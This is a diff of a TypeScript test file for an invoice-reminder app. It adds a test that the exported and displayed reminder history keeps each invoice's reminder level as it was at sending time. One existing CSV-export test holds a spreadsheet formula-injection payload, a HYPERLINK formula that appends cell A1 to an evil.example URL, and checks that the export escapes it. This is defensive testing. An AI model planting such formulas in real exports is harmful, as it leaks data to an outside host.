@@ -3,11 +3,15 @@ import ExcelJS from 'exceljs';
 import { freshDb } from '../helpers/db';
 import { makeContact, makeDebtor, makeInvoice, makeOrganisation, makeUser, TEST_PASSWORD } from '../helpers/factories';
 import { loggedIn } from '../helpers/app';
-import { deliveries, reminderInvoices, reminderRecipients, reminders } from '../../src/lib/server/db/schema';
+import { eq } from 'drizzle-orm';
+import { deliveries, invoices, reminderInvoices, reminderRecipients, reminders } from '../../src/lib/server/db/schema';
 import type { Db } from '../../src/lib/server/db/types';
 import { reminderWorkbook } from '../../src/lib/server/exports/workbook';
 import { toCsv } from '../../src/lib/server/exports/csv';
-import { dataSheet } from '../../src/lib/server/exports/tables';
+import { dataSheet, historySheet, listHistory } from '../../src/lib/server/exports/tables';
+import { runPass } from '../../src/lib/server/delivery/scheduler';
+import { settleReminders } from '../../src/lib/server/delivery/settle';
+
 
 let db: Db;
 let org: { id: string };
@@ -27,7 +31,7 @@ async function sentReminder(debtorId: string, contactId: string, invoiceIds: str
 		})
 		.returning();
 	await db.insert(reminderRecipients).values({ reminderId: reminder.id, contactId, channels: ['email'] });
-	await db.insert(reminderInvoices).values(invoiceIds.map((invoiceId) => ({ reminderId: reminder.id, invoiceId })));
+	await db.insert(reminderInvoices).values(invoiceIds.map((invoiceId) => ({ reminderId: reminder.id, invoiceId, levelAtSend: 1 })));
 	await db.insert(deliveries).values({ organisationId: org.id, reminderId: reminder.id, contactId, channel: 'email', status, sentAt: new Date('2026-11-02T09:00:00Z') });
 }
 
@@ -82,6 +86,44 @@ describe('the reminder workbook', () => {
 		const csv = toCsv(await dataSheet(db, org.id, 'debtors')).toString('utf8');
 		expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";`);
 		expect(csv).not.toMatch(/[;\n]=/);
+	});
+});
+
+describe('the level of each invoice in the history', () => {
+	it('is the level the invoice reached when that reminder was sent, not its level now', async () => {
+		const debtor = await makeDebtor(db, org.id, 'Deux relances');
+		const contact = await makeContact(db, org.id, debtor.id, { email: 'deux@example.fr' });
+		const owed = await makeInvoice(db, org.id, debtor.id, { number: 'G-1', amountCents: 10000 });
+		const paid = await makeInvoice(db, org.id, debtor.id, { number: 'G-2', amountCents: 10000, paidCents: 10000 });
+		const send = async (shortDescription: string, sentAt: string) => {
+			const [reminder] = await db
+				.insert(reminders)
+				.values({ organisationId: org.id, debtorId: debtor.id, status: 'scheduled', sendDate: '2026-11-01', immediate: true, shortDescription, requiresValidation: false, content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' } })
+				.returning();
+			await db.insert(reminderRecipients).values({ reminderId: reminder.id, contactId: contact.id, channels: ['email'] });
+			await db.insert(reminderInvoices).values([owed.id, paid.id].map((invoiceId) => ({ reminderId: reminder.id, invoiceId })));
+			await runPass(db, { trigger: 'manual', organisationId: org.id, reminderIds: [reminder.id], enqueue: async () => {} });
+			// The provider took it: the worker's bookkeeping, then the settling it triggers.
+			await db.update(deliveries).set({ status: 'sent', sentAt: new Date(sentAt) }).where(eq(deliveries.reminderId, reminder.id));
+			await db.transaction((tx) => settleReminders(tx, [reminder.id]));
+		};
+		await send('Première', '2026-11-03T09:00:00Z');
+		await send('Deuxième', '2026-11-10T09:00:00Z');
+		expect((await db.select().from(invoices).where(eq(invoices.id, owed.id)))[0].reminderLevel).toBe(2);
+
+		const sheet = await historySheet(db, org.id, {}, (o) => o, (c) => c);
+		const levels = sheet.rows.filter((r) => r[2] === 'Deux relances').map((r) => [r[3], r[9], r[8]]);
+		expect(levels).toEqual([
+			['Deuxième', 'G-1', '2'],
+			['Deuxième', 'G-2', '0'],
+			['Première', 'G-1', '1'],
+			['Première', 'G-2', '0']
+		]);
+		const screen = (await listHistory(db, org.id, {})).filter((r) => r.debtorName === 'Deux relances');
+		expect(screen.map((r) => [r.shortDescription, r.level])).toEqual([
+			['Deuxième', 2],
+			['Première', 1]
+		]);
 	});
 });
 
